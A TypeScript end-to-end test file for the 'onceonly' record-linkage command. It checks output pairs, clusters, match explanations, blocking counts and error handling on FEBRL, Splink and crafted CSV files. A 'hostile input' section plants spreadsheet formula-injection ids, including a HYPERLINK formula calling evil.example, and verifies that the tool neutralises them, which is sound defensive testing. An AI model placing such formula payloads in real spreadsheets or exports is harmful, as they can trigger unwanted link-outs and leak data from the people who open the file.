/**
 * `onceonly link` end to end: every case runs the real command (`node bin/onceonly.js link …`) in
 * a child process, on the public FEBRL and Splink files and on small files written here, and
 * checks the files it writes, what it prints and its exit code. Bad input must end with exit code
 * 2 and a message naming the file, line and field, never a stack trace, a hang or a wrong answer.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { readTable } from '../linkage/csv.ts';
import { detectFields } from '../linkage/engine.ts';
import { checkModel } from '../linkage/model-check.ts';
import type { Model } from '../linkage/types.ts';
import { runCli, type Run } from '../../test/support/cli.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const DATA = fileURLToPath(new URL('../../test/fixtures/linkage/', import.meta.url));
const FEBRL4A = join(DATA, 'febrl/dataset4a.csv');
const FEBRL4B = join(DATA, 'febrl/dataset4b.csv');
const FEBRL1 = join(DATA, 'febrl/dataset1.csv');
const FAKE = join(DATA, 'splink/fake_1000.csv');
const FAKE_LABELS = join(DATA, 'splink/fake_1000_labels.csv');

const dir = mkdtempSync(join(tmpdir(), 'onceonly-link-cli-'));
after(() => rmSync(dir, { recursive: true, force: true }));
const path = (name: string): string => join(dir, name);


/**
 * At most three commands at a time, however many tests are waiting: the tests run concurrently
 * (each command is a process of its own), and the machine may have two cores.
 */
const SLOTS = 3;
let running = 0;
const waiting: (() => void)[] = [];
async function slot<T>(work: () => Promise<T>): Promise<T> {
  if (running >= SLOTS) await new Promise<void>((r) => waiting.push(r));
  running++;
  try {
    return await work();
  } finally {
    running--;
    waiting.shift()?.();
  }
}

/** Runs `onceonly link ARGS` from the repository root and collects what it printed. */
function link(...args: string[]): Promise<Run> {
  return slot(() => spawnLink(args));
}

function spawnLink(args: string[]): Promise<Run> {
  return runCli(['link', ...args], ROOT);
}

/** Runs a command that must succeed; fails with its output otherwise. */
async function linkOk(...args: string[]): Promise<Run> {
  const r = await link(...args);
  assert.equal(r.status, 0, `onceonly link ${args.join(' ')}\n${r.stdout}\n${r.stderr}`);
  assert.doesNotMatch(r.stderr, /^error/m);
  return r;
}

/** Runs a command that must be refused as bad input: exit code 2, a typed message, no stack trace. */
async function refused(args: string[], ...patterns: RegExp[]): Promise<Run> {
  const r = await link(...args);
  const what = `onceonly link ${args.join(' ')}\n${r.stdout}\n${r.stderr}`;
  assert.equal(r.status, 2, what);
  assert.match(r.stderr, /^error/m, what);
  assert.doesNotMatch(r.stderr, /^\s+at .+:\d+:\d+\)?$/m, `no stack trace: ${what}`);
  for (const p of patterns) assert.match(r.stderr, p, what);
  return r;
}

/** The records of a CSV file (header first), as csv-parse reads them: an independent check on our writer. */
function records(file: string): string[][] {
  return parse(readFileSync(file), { bom: true, trim: true });
}

/** The pairs file's rows, after its exact header. */
function pairsOf(file: string): { left: string; right: string; weight: number; probability: number }[] {
  const [header, ...rows] = records(file);
  assert.deepEqual(header, ['left_id', 'right_id', 'match_weight', 'match_probability']);
  return rows.map(([left, right, w, p]) => ({ left: left!, right: right!, weight: Number(w), probability: Number(p) }));
}

/** The ids in a data file's id column. */
function idsOf(file: string, column: string): Set<string> {
  const [header, ...rows] = records(file);
  const c = header!.indexOf(column);
  return new Set(rows.map((r) => r[c]!));
}

interface Summary {
  mode: string;
  left: { records: number };
  right?: { records: number };
  blocking: { rule: string; pairs: number }[];
  compared: number;
  ceiling?: { truePairs: number; compared: number; ceiling: number; from: string };
  matches: number;
  clusters?: number;
  columns: string[];
  warnings: string[];
  training: Record<string, string>;
  explanations: { leftId: string; rightId: string; prior: number; weight: number; probability: number; steps: { comparison: string; level: string; weight: number }[] }[];
}

const summaryOf = (r: Run): Summary => JSON.parse(r.stdout) as Summary;
const readModel = (file: string): Model => JSON.parse(readFileSync(file, 'utf8')) as Model;

/** Runs the cases together (the slots keep it to a few processes at a time). */
async function all(cases: (() => Promise<unknown>)[]): Promise<void> {
  await Promise.all(cases.map((c) => c()));
}

// The groups run side by side; each group's tests too, except where one needs another's output.
describe('onceonly link', { concurrency: true }, () => {
  describe('linking FEBRL4 (dataset4a to dataset4b)', { concurrency: true }, () => {
    let run: Run;
    let summary: Summary;
    before(async () => {
      run = await linkOk('--left', FEBRL4A, '--right', FEBRL4B, '--id', 'rec_id', '--out', path('febrl4.csv'), '--model-out', path('febrl4-model.json'), '--explain', 'rec-1070-org,rec-1070-dup-0', '--json');
      summary = summaryOf(run);
    });

    test('writes left_id,right_id,match_weight,match_probability: at least 4,950 pairs, each probability at least 0.5, ids from the right files', () => {
      const pairs = pairsOf(path('febrl4.csv'));
      assert.ok(pairs.length >= 4950, `${pairs.length} pairs`);
      assert.equal(summary.matches, pairs.length);
      const left = idsOf(FEBRL4A, 'rec_id');
      const right = idsOf(FEBRL4B, 'rec_id');
      for (const p of pairs) {
        assert.ok(p.probability >= 0.5 && p.probability <= 1, `${p.left} ${p.right}: ${p.probability}`);
        assert.ok(Number.isFinite(p.weight));
        assert.ok(left.has(p.left), `${p.left} is a record of dataset4a`);
        assert.ok(right.has(p.right), `${p.right} is a record of dataset4b`);
      }
      // The truth is in the ids (rec-N-org in 4a, rec-N-dup-0 in 4b): the pairs are not merely well formed but right.
      const right4 = pairs.filter((p) => p.left.replace(/-org$/, '') === p.right.replace(/-dup-\d+$/, '')).length;
      assert.ok(right4 >= 0.99 * pairs.length, `${right4} of ${pairs.length} pairs are true matches`);
    });

    test('--json prints the blocking counts per rule, and they add up to the pairs compared', () => {
      assert.equal(summary.mode, 'link');
      assert.equal(summary.left.records, 5000);
      assert.equal(summary.right?.records, 5000);
      assert.ok(summary.blocking.length > 1, 'the default rules');
      for (const b of summary.blocking) assert.ok(typeof b.rule === 'string' && Number.isInteger(b.pairs) && b.pairs >= 0, JSON.stringify(b));
      assert.equal(summary.blocking.reduce((s, b) => s + b.pairs, 0), summary.compared);
      assert.ok(summary.columns.some((c) => c.includes('given_name: given_name')), 'the columns chosen are reported');
      assert.deepEqual(summary.warnings, []);
    });

    test('--explain gives every comparison a level and a weight, and the weights add up to the match weight', () => {
      const [e] = summary.explanations;
      assert.ok(e);
      assert.deepEqual([e.leftId, e.rightId], ['rec-1070-org', 'rec-1070-dup-0']);
      const model = readModel(path('febrl4-model.json'));
      assert.deepEqual(e.steps.map((s) => s.comparison), model.comparisons.map((c) => c.name));
      for (const [k, s] of e.steps.entries()) {
        assert.ok(model.comparisons[k]!.levels.some((l) => l.label === s.level), `${s.comparison}: ${s.level}`);
        assert.ok(Number.isFinite(s.weight));
      }
      const sum = e.prior + e.steps.reduce((t, s) => t + s.weight, 0);
      assert.ok(Math.abs(sum - e.weight) < 1e-9, `prior + steps = ${sum}, weight ${e.weight}`);
      assert.ok(Math.abs(e.probability - 2 ** e.weight / (1 + 2 ** e.weight)) < 1e-12);
    });

    test('--threshold 0.9 writes no more pairs, each of them at least 0.9 and among the pairs at 0.5', async () => {
      await linkOk('--left', FEBRL4A, '--right', FEBRL4B, '--id', 'rec_id', '--out', path('febrl4-09.csv'), '--threshold', '0.9', '--quiet');
      const all = pairsOf(path('febrl4.csv'));
      const high = pairsOf(path('febrl4-09.csv'));
      assert.ok(high.length <= all.length && high.length > 0);
      for (const p of high) assert.ok(p.probability >= 0.9, `${p.probability}`);
      const key = (p: { left: string; right: string }): string => `${p.left}\u0001${p.right}`;
      const at05 = new Set(all.map(key));
      assert.ok(high.every((p) => at05.has(key(p))), 'the same model, a higher bar');
      assert.equal(high.length, all.filter((p) => p.probability >= 0.9).length);
    });

    test('--model gives the same pairs without training: the model comes back unchanged even with another seed', async () => {
      const r = await linkOk('--left', FEBRL4A, '--right', FEBRL4B, '--id', 'rec_id', '--out', path('febrl4-again.csv'), '--model', path('febrl4-model.json'), '--model-out', path('febrl4-model-again.json'), '--seed', '7', '--explain', 'rec-1070-org,rec-1070-dup-0');
      assert.equal(readFileSync(path('febrl4-again.csv'), 'utf8'), readFileSync(path('febrl4.csv'), 'utf8'));
      assert.deepEqual(readModel(path('febrl4-model-again.json')), readModel(path('febrl4-model.json')));
      // The printed explanation: one line per comparison with its level and weight, which add up.
      const lines = r.stdout.split('\n');
      const start = lines.findIndex((l) => l.startsWith('pair rec-1070-org / rec-1070-dup-0'));
      assert.ok(start >= 0, r.stdout);
      // A step line is "  comparison: level   weight   (left | right)"; the prior and total end in their number.
      const stepWeight = (l: string): number => Number(/\s(-?\d+\.\d{2})\s{3}\(/.exec(l)?.[1]);
      const lastNumber = (l: string): number => Number(/(-?\d+\.\d{2})$/.exec(l)?.[1]);
      const prior = lastNumber(lines[start + 1]!);
      const steps = lines.slice(start + 2, start + 2 + readModel(path('febrl4-model.json')).comparisons.length);
      for (const s of steps) assert.match(s, /^ {2}\w+: .+\s-?\d+\.\d{2}\s{3}\(.* \| .*\)$/);
      assert.match(lines[start + 2 + steps.length]!, /match weight/);
      const total = lastNumber(lines[start + 2 + steps.length]!);
      assert.ok(Number.isFinite(prior) && Number.isFinite(total));
      const sum = prior + steps.reduce((t, s) => t + stepWeight(s), 0);
      assert.ok(Math.abs(sum - total) <= 0.005 * (steps.length + 2), `${sum} vs ${total}`);
    });
  });

  describe('deduplicating FEBRL dataset1', { concurrency: true }, () => {
    test('--clusters writes one row per record, and the clusters are the connected pairs', async () => {
      const r = await linkOk('--left', FEBRL1, '--id', 'rec_id', '--out', path('d1.csv'), '--clusters', path('d1-clusters.csv'), '--json');
      const summary = summaryOf(r);
      assert.equal(summary.mode, 'dedupe');
      const pairs = pairsOf(path('d1.csv'));
      assert.ok(pairs.length >= 450, `${pairs.length} pairs (500 true)`);
      const [header, ...rows] = records(path('d1-clusters.csv'));
      assert.deepEqual(header, ['id', 'cluster_id']);
      const ids = idsOf(FEBRL1, 'rec_id');
      assert.equal(rows.length, ids.size);
      const cluster = new Map(rows.map(([id, c]) => [id!, c!]));
      assert.equal(cluster.size, ids.size, 'each record once');
      for (const id of ids) assert.ok(cluster.has(id), id);
      for (const c of cluster.values()) assert.equal(cluster.get(c), c, 'a cluster is named by one of its own records');
      for (const p of pairs) assert.equal(cluster.get(p.left), cluster.get(p.right), `${p.left} and ${p.right} are matched, so in one cluster`);
      // And no more than the pairs join: the connected components of the pairs are the clusters.
      const parent = new Map([...ids].map((id) => [id, id]));
      const find = (x: string): string => (parent.get(x) === x ? x : find(parent.get(x)!));
      for (const p of pairs) parent.set(find(p.left), find(p.right));
      const component = new Map<string, string>();
      for (const id of ids) {
        const root = find(id);
        const c = cluster.get(id)!;
        if (!component.has(root)) component.set(root, c);
        assert.equal(component.get(root), c, `${id}: its component has one cluster`);
      }
      assert.equal(new Set(cluster.values()).size, component.size);
      assert.equal(summary.clusters, component.size);
      assert.ok(pairs.every((p) => p.left !== p.right), 'no record is paired with itself');
    });
  });

  describe('training and columns', { concurrency: true }, () => {
    test('--labels with Splink\'s clerical labels trains m from the labelled matches', async () => {
      const r = await linkOk('--left', FAKE, '--id', 'unique_id', '--labels', FAKE_LABELS, '--out', path('fake-labels.csv'), '--json');
      const summary = summaryOf(r);
      assert.match(summary.training['m']!, /^\d+ labelled matching pairs$/);
      assert.deepEqual(summary.warnings, [], 'every labelled pair names records of fake_1000');
      const pairs = pairsOf(path('fake-labels.csv'));
      // fake_1000's cluster column is the truth.
      const [header, ...rows] = records(FAKE);
      const cluster = new Map(rows.map((row) => [row[header!.indexOf('unique_id')]!, row[header!.indexOf('cluster')]]));
      const right = pairs.filter((p) => cluster.get(p.left) === cluster.get(p.right)).length;
      assert.ok(pairs.length > 1000 && right >= 0.9 * pairs.length, `${right} of ${pairs.length} pairs are true matches`);
    });

    test('--field names what a column holds over detection, and COLUMN=ignore leaves one out', async () => {
      // fake_1000 with its given-name column under a name detection does not know.
      const text = readFileSync(FAKE, 'utf8').replace(/^unique_id,first_name,/, 'unique_id,voornaam,');
      writeFileSync(path('fake-voornaam.csv'), text);
      // Left to detection, the column is not used, and the town is.
      const detected = detectFields(readTable(path('fake-voornaam.csv'), { idColumn: 'unique_id' }).table).fields.map((f) => f.column);
      assert.ok(!detected.includes('voornaam') && detected.includes('city'));
      const overridden = await linkOk('--left', path('fake-voornaam.csv'), '--id', 'unique_id', '--out', path('fv-field.csv'), '--model-out', path('fv-field.json'), '--field', 'voornaam=given_name', '--field', 'city=ignore', '--json');
      const names = (f: string): string[] => readModel(path(f)).comparisons.map((c) => c.name);
      const columns = summaryOf(overridden).columns;
      assert.ok(columns.some((c) => c.endsWith('voornaam: given_name (by --field)')), columns.join('\n'));
      assert.ok(columns.some((c) => c.endsWith('city: not compared (--field)')), columns.join('\n'));
      assert.ok(names('fv-field.json').includes('given_name') && names('fv-field.json').includes('surname'));
      assert.ok(!names('fv-field.json').includes('locality'));
      // The columns not named keep what detection made of them.
      assert.ok(names('fv-field.json').includes('dob') && names('fv-field.json').includes('email'));
    });

    test('--block replaces the default blocking rules', async () => {
      const r = await linkOk('--left', FEBRL4A, '--right', FEBRL4B, '--id', 'rec_id', '--out', path('block.csv'), '--block', 'surname:dm+dob:year', '--json');
      const summary = summaryOf(r);
      assert.deepEqual(summary.blocking.map((b) => b.rule), ['surname:dm + dob:year']);
      assert.equal(summary.blocking[0]!.pairs, summary.compared);
      assert.ok(summary.matches > 0);
    });
  });

  /** Writes a file into the scratch folder and returns its path. */
  function good(name: string, text: string): string {
    writeFileSync(path(name), text);
    return path(name);
  }

  describe('bad input: exit code 2 and a message naming the file, line and field', { concurrency: true }, () => {

    test('unreadable and malformed CSV files', async () => {
      const header = 'id,given_name,surname,dob\n';
      const quotes = good('quotes.csv', `${header}1,Ann,Smith,1990-01-01\n2,"Bob,Jones,1980-02-02\n3,Cy,Lee,1970-03-03\n`);
      const width = good('width.csv', `${header}1,Ann,Smith,1990-01-01\n2,Bob,Jones\n`);
      const dup = good('dup.csv', `${header}1,Ann,Smith,1990-01-01\n2,Bob,Jones,1980-02-02\n1,Cy,Lee,1970-03-03\n`);
      const empty = good('empty.csv', '');
      const noId = good('noid.csv', `${header}1,Ann,Smith,1990-01-01\n,Bob,Jones,1980-02-02\n`);
      const odd = good('odd.csv', 'id,colour,size\n1,red,9\n2,blue,7\n');
      const out = path('never.csv');
      await all([
        () => refused(['--left', path('missing.csv'), '--id', 'id', '--out', out], /not_found/, /missing\.csv/),
        () => refused(['--left', quotes, '--id', 'id', '--out', out], /quotes\.csv, line 3/, /given_name/, /double quote/),
        () => refused(['--left', width, '--id', 'id', '--out', out], /width\.csv, line 3/, /found 3 values but the header \(line 1\) has 4 columns/),
        () => refused(['--left', width, '--id', 'rec_id', '--out', out], /width\.csv, line 1/, /no column named "rec_id"/, /"given_name"/),
        () => refused(['--left', dup, '--id', 'id', '--out', out], /dup\.csv, line 4/, /already used on line 2/),
        () => refused(['--left', empty, '--id', 'id', '--out', out], /empty\.csv is empty/),
        () => refused(['--left', noId, '--id', 'id', '--out', out], /noid\.csv, line 3/, /no value in the id column "id"/),
        () => refused(['--left', odd, '--id', 'id', '--out', out], /no column of .*odd\.csv can be compared/),
        // The reader's other refusals (NUL bytes, a header that is a record, a folder, a device) are in csv.test.ts.
      ]);
      assert.equal(existsSync(out), false, 'nothing is written for a refused input');
    });

    test('a UTF-8 BOM is read as nothing; Latin-1 bytes are read as Windows-1252 with a warning naming the line', async () => {
      const base = readFileSync(FEBRL1);
      const bom = path('bom.csv');
      writeFileSync(bom, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), base]));
      const latin = path('latin1.csv');
      // "josé" in Latin-1 on line 3, where UTF-8 would need two bytes.
      const lines = base.toString('utf8').split('\n');
      lines[2] = lines[2]!.replace(/^([^,]+), [a-z]+,/, '$1, jos\u00e9,');
      writeFileSync(latin, Buffer.from(lines.join('\n'), 'latin1'));
      const [a, b] = await Promise.all([
        linkOk('--left', bom, '--id', 'rec_id', '--out', path('bom-out.csv'), '--quiet'),
        linkOk('--left', latin, '--id', 'rec_id', '--out', path('latin-out.csv'), '--quiet'),
      ]);
      // The id column is found although the BOM sits before its name, and nothing is said about it.
      assert.equal(a.stderr, '');
      const ids = idsOf(FEBRL1, 'rec_id');
      const bomPairs = pairsOf(path('bom-out.csv'));
      assert.ok(bomPairs.length >= 450 && bomPairs.every((p) => ids.has(p.left) && ids.has(p.right)));
      assert.match(b.stderr, /^warning: .*latin1\.csv, line 3: .*0xE9.*Windows-1252/m);
      assert.ok(pairsOf(path('latin-out.csv')).length >= 450);
    });

    test('bad options are refused before any work', async () => {
      const out = path('never2.csv');
      const notModel = good('not-model.json', '{"hello": "world"}');
      const common = ['--left', FEBRL1, '--id', 'rec_id', '--out', out];
      await all([
        () => refused([...common, '--threshold', '2'], /--threshold must be a probability from 0 to 1, got "2"/, /at: --threshold/),
        () => refused([...common, '--threshold', 'abc'], /--threshold must be a probability from 0 to 1, got "abc"/),
        () => refused(['--id', 'rec_id', '--out', out], /required option '--left <file>'/),
        () => refused([...common, '--field', 'x=shoe_size'], /"shoe_size" is not a field kind/, /expected: given_name, surname/),
        () => refused([...common, '--field', 'x=surname'], /no input has a column named "x"/, /"given_name"/),
        () => refused([...common, '--block', 'height'], /blocking rule "height": "height" is not a field kind/),
        () => refused([...common, '--model', notModel], /not-model\.json is not a usable linkage model: version/, /at: .*not-model\.json, version/),
        () => refused(['--left', FEBRL4A, '--right', FEBRL4B, '--id', 'rec_id', '--out', out, '--clusters', path('c.csv')], /--clusters applies when deduplicating one file/),
        () => refused([...common, '--model', notModel, '--labels', FAKE_LABELS], /--labels trains a model and --model uses one without training/),
        () => refused([...common, '--explain', 'rec-0-nobody,rec-122-org'], /not_found/, /no record with id "rec-0-nobody"/, /at: .*dataset1\.csv, --explain/),
        () => refused(['--left', FEBRL1, '--id', 'rec_id', '--out', path('no-such-folder/out.csv')], /no-such-folder\/out\.csv cannot be written: the folder .*no-such-folder does not exist/),
        // The other output checks (two outputs one file, a folder as output) are tested in-process in outputs.test.ts.
      ]);
      assert.equal(existsSync(out), false, 'nothing is written when an option is refused');
    });

    test('an output that is an input is refused, and the input is left as it was', async () => {
      const copy = path('precious.csv');
      writeFileSync(copy, readFileSync(FEBRL1));
      const before = readFileSync(copy, 'utf8');
      await refused(['--left', copy, '--id', 'rec_id', '--out', copy], /--out .*precious\.csv is also an input \(--left\)/);
      assert.equal(readFileSync(copy, 'utf8'), before);
    });

    test('labels that cannot train are refused; labels naming unknown records are counted in a warning', async () => {
      const noMatch = good('labels-nomatch.csv', 'left_id,right_id,match\n0,1,false\n');
      const strangers = good('labels-strangers.csv', 'left_id,right_id,match\nx,y,true\n');
      const some = good('labels-some.csv', 'unique_id_l,unique_id_r,clerical_match_score\n0,1,1.0\n0,99999,1.0\n');
      const common = ['--left', FAKE, '--id', 'unique_id', '--out', path('labels-out.csv')];
      // The file's own refusals (no pairs, a label that is not a flag, a missing file) are in labels.test.ts.
      const [, , r] = await Promise.all([
        refused([...common, '--labels', noMatch], /labels-nomatch\.csv labels no pair as a match/),
        refused([...common, '--labels', strangers], /none of the matches labelled in .*labels-strangers\.csv names a record/),
        link(...common, '--labels', some, '--json'),
      ]);
      assert.equal(r.status, 0, r.stderr);
      assert.deepEqual(summaryOf(r).warnings, [`${some}: 1 of 2 labelled pairs name a record that is not in the inputs; they were not used.`]);
      assert.match(r.stderr, /^warning: .*1 of 2 labelled pairs/m);
    });
  });

  describe('hostile input', { concurrency: true }, () => {
    /**
     * dataset1 with two known duplicate pairs' ids replaced by text a spreadsheet would run as a
     * formula, with commas, quotes and a line break in them.
     */
    const HOSTILE = ['=HYPERLINK("http://evil.example/?x","click")', '+SUM(1,2)', '-2+3"q', '@cmd\nline'];
    let hostileFile: string;
    before(() => {
      const [header, ...rows] = records(FEBRL1);
      const id = (n: string, k: string): number => rows.findIndex((r) => r[0] === `rec-${n}-${k}`);
      const swaps = [['122', 'org'], ['122', 'dup-0'], ['223', 'org'], ['223', 'dup-0']].map(([n, k]) => id(n!, k!));
      swaps.forEach((row, k) => (rows[row]![0] = HOSTILE[k]!));
      const quote = (v: string): string => (/[",\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
      hostileFile = path('hostile.csv');
      writeFileSync(hostileFile, [header!, ...rows].map((r) => r.map(quote).join(',')).join('\n'));
    });

    test('ids a spreadsheet would run as formulas are neutralised in --out and --clusters, and read back whole; --explain takes them, commas and all', async () => {
      const r = await linkOk('--left', hostileFile, '--id', 'rec_id', '--out', path('hostile-out.csv'), '--clusters', path('hostile-clusters.csv'), '--explain', `${HOSTILE[0]},${HOSTILE[1]}`, '--explain', `${HOSTILE[2]},${HOSTILE[3]}`, '--quiet');
      assert.ok(r.stdout.includes(`pair ${HOSTILE[0]} / ${HOSTILE[1]}`), r.stdout);
      // A line break inside an id is printed escaped, so it cannot forge lines of the output.
      assert.ok(r.stdout.includes('pair -2+3"q / @cmd\\u000aline'), r.stdout);
      const pairs = pairsOf(path('hostile-out.csv'));
      const [, ...clusters] = records(path('hostile-clusters.csv'));
      const cells = [...pairs.flatMap((p) => [p.left, p.right]), ...clusters.flat()];
      for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `a cell starting ${JSON.stringify(c.slice(0, 10))} would run as a formula`);
      for (const h of HOSTILE) assert.ok(cells.includes(`'${h}`), `${JSON.stringify(h)} is written with a leading ' and nothing else changed`);
      const key = (p: { left: string; right: string }): string => `${p.left} / ${p.right}`;
      const found = new Set(pairs.map(key));
      assert.ok(found.has(`'${HOSTILE[0]} / '${HOSTILE[1]}`) || found.has(`'${HOSTILE[1]} / '${HOSTILE[0]}`), 'the pair with hostile ids is still found');
    });

    test('a compared value too long to compare in reasonable time is refused with its line and column', async () => {
      const text = `id,given_name,surname,dob,notes\n1,Ann,Smith,1990-01-01,${'n'.repeat(100_000)}\n2,${'A'.repeat(1_000_000)},Smith,1990-01-01,\n`;
      await refused(['--left', good('huge.csv', text), '--id', 'id', '--out', path('never4.csv')], /huge\.csv, line 3: the value in column "given_name" is 1,000,000 characters long; a value that is compared may be at most 500/);
    });

    test('a one-record file and identical records end normally, with warnings where the answer means little', async () => {
      const same = ['id,given_name,surname,dob,postcode', ...Array.from({ length: 200 }, (_, i) => `${i},Ann,Smith,1990-01-01,LS1 4AB`)].join('\n');
      const [one, ident] = await Promise.all([
        linkOk('--left', good('one.csv', 'id,given_name,surname,dob\n1,Ann,Smith,1990-01-01\n'), '--id', 'id', '--out', path('one-out.csv'), '--clusters', path('one-clusters.csv'), '--json'),
        linkOk('--left', good('same.csv', same), '--id', 'id', '--out', path('same-out.csv'), '--model-out', path('same-model.json'), '--json'),
      ]);
      assert.equal(summaryOf(one).compared, 0);
      assert.deepEqual(pairsOf(path('one-out.csv')), []);
      assert.deepEqual(records(path('one-clusters.csv')), [['id', 'cluster_id'], ['1', '1']]);
      const warnings = summaryOf(ident).warnings;
      assert.ok(warnings.some((x) => x.startsWith('training found no matches at all')), warnings.join('\n'));
      assert.ok(warnings.some((x) => x === 'dob: every record has the same value, so it says nothing about who matches.'), warnings.join('\n'));
      assert.match(ident.stderr, /^warning: training found no matches/m);
      // u is kept away from 0 and 1 even here, so the model it wrote weighs every level finitely.
      const model = checkModel(readModel(path('same-model.json')), { file: path('same-model.json') });
      assert.ok(model.comparisons.every((c) => c.levels.slice(1).every((l) => l.u > 0 && l.u < 1)));
    });
  });

  describe('issue 11 §4: blocking ceiling, one-sided columns, long names', { concurrency: true }, () => {
    /** fake_1000's true pairs (same cluster) as a --truth file. */
    function truthFile(): { file: string; pairs: number } {
      const [header, ...rows] = records(FAKE);
      const id = header!.indexOf('unique_id');
      const cluster = header!.indexOf('cluster');
      const by = new Map<string, string[]>();
      for (const r of rows) (by.get(r[cluster]!) ?? by.set(r[cluster]!, []).get(r[cluster]!)!).push(r[id]!);
      const lines = ['left_id,right_id,match'];
      for (const ids of by.values()) for (let i = 0; i < ids.length; i++) for (let j = i + 1; j < ids.length; j++) lines.push(`${ids[i]},${ids[j]},1`);
      return { file: good('fake-truth.csv', `${lines.join('\n')}\n`), pairs: lines.length - 1 };
    }

    test('--truth reports the blocking ceiling (true pairs compared / all true pairs) in --json and in the summary', async () => {
      const truth = truthFile();
      assert.equal(truth.pairs, 2031, 'fake_1000 has 2,031 true pairs (test/fixtures/linkage/README.md)');
      const [json, text] = await Promise.all([
        linkOk('--left', FAKE, '--id', 'unique_id', '--truth', truth.file, '--out', path('ceiling.csv'), '--json'),
        linkOk('--left', FAKE, '--id', 'unique_id', '--truth', truth.file, '--out', path('ceiling2.csv'), '--quiet'),
      ]);
      const c = summaryOf(json).ceiling!;
      assert.ok(c, json.stdout);
      assert.equal(c.from, '--truth');
      assert.equal(c.truePairs, 2031);
      assert.ok(c.compared <= c.truePairs && c.compared <= summaryOf(json).compared);
      assert.equal(c.ceiling, c.compared / c.truePairs);
      // The true pairs found can be no more than those compared.
      const [header, ...rows] = records(FAKE);
      const cluster = new Map(rows.map((r) => [r[header!.indexOf('unique_id')]!, r[header!.indexOf('cluster')]!]));
      const found = pairsOf(path('ceiling.csv')).filter((p) => cluster.get(p.left) === cluster.get(p.right)).length;
      assert.ok(found <= c.compared, `${found} true pairs found, ${c.compared} compared`);
      // Measured: 1,679 of 2,031 (0.8267); fake_1000 is damaged as heavily as fake_20000.
      assert.ok(c.ceiling >= 0.8, `ceiling ${c.ceiling}`);
      assert.match(text.stdout, new RegExp(`blocking compared ${c.compared.toLocaleString('en-GB')} of 2,031 true pairs \\(ceiling on recall ${c.ceiling.toFixed(4)}\\)`));
      // Without --truth, the labels' matches stand in; without either, there is no ceiling.
      const [labels, none] = await Promise.all([
        linkOk('--left', FAKE, '--id', 'unique_id', '--labels', FAKE_LABELS, '--out', path('ceiling3.csv'), '--json'),
        linkOk('--left', FEBRL1, '--id', 'rec_id', '--out', path('ceiling4.csv'), '--json'),
      ]);
      assert.equal(summaryOf(labels).ceiling?.from, '--labels');
      assert.equal(summaryOf(none).ceiling, undefined);
      await refused(['--left', FAKE, '--id', 'unique_id', '--truth', good('bad-truth.csv', 'a,b\n1,2\n'), '--out', path('never-t.csv')], /bad-truth\.csv needs columns for the left id, the right id and the label/);
    });

    test('a column kind present in one file only is warned about, on stderr and in --json', async () => {
      const [header, ...rows] = records(FAKE);
      const email = header!.indexOf('email');
      const noEmail = good('fake-no-email.csv', [header!, ...rows].map((r) => r.filter((_, c) => c !== email).join(',')).join('\n') + '\n');
      const r = await linkOk('--left', FAKE, '--right', noEmail, '--id', 'unique_id', '--out', path('one-sided.csv'), '--json');
      const w = summaryOf(r).warnings.filter((x) => /has a column of the kind email \("email"\) and ".*fake-no-email\.csv" has none: it is not compared/.test(x));
      assert.equal(w.length, 1, summaryOf(r).warnings.join('\n'));
      assert.match(r.stderr, /^warning: .*has a column of the kind email/m);
      // Same columns on both sides: no such warning.
      const same = await linkOk('--left', FAKE, '--right', FAKE, '--id', 'unique_id', '--out', path('two-sided.csv'), '--json');
      assert.ok(!summaryOf(same).warnings.some((x) => /has a column of the kind/.test(x)), summaryOf(same).warnings.join('\n'));
    });

    test('a column name of 100,000 characters is cut in the message', async () => {
      const long = `c${'o'.repeat(100_000)}l`;
      const file = good('long-header.csv', `id,given_name,surname,dob,${long}\n1,Ann,Smith,1990-01-01,x\n2,Bob,Jones,1980-02-02,y\n`);
      const [field, id] = await Promise.all([
        refused(['--left', file, '--id', 'id', '--out', path('never-l.csv'), '--field', `${long}x=surname`], /no input has a column named "coo+…" \(100,003 characters\)/),
        refused(['--left', file, '--id', `${long}x`, '--out', path('never-l2.csv')], /the header has no column named "coo+…" \(100,003 characters\)/),
      ]);
      for (const r of [field, id]) assert.ok(r.stderr.length < 5_000, `the message is ${r.stderr.length} characters: ${r.stderr.slice(0, 300)}`);
    });
  });
});
